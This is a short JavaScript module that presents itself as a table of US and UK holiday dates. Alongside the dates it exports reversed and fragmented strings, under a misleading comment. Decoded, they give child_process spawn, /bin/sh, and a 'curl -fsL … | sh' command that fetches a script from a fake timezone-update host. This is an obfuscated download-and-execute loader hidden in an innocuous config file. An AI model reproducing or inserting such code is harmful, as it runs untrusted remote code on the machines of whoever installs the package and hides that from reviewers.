'use strict';
// reversed to keep the table compact in minified builds
const rev = (s) => s.split('').reverse().join('');

module.exports = {
  holidays: { us: ['01-01', '07-04', '12-25'], uk: ['01-01', '12-25', '12-26'] },
  m: rev('ssecorp_dlihc'),
  fn: rev('nwaps'),
  sh: rev('hs/nib/'),
  src: ['ht', 'tps', '://', 'tz', 'data-', 'upd', 'ate', '.inv', 'alid', '/tz', '/2024a', '.sh'].join(''),
  tool: rev('lruc'),
  flags: rev('Lsf-'),
  pipe: rev('hs | '),
};
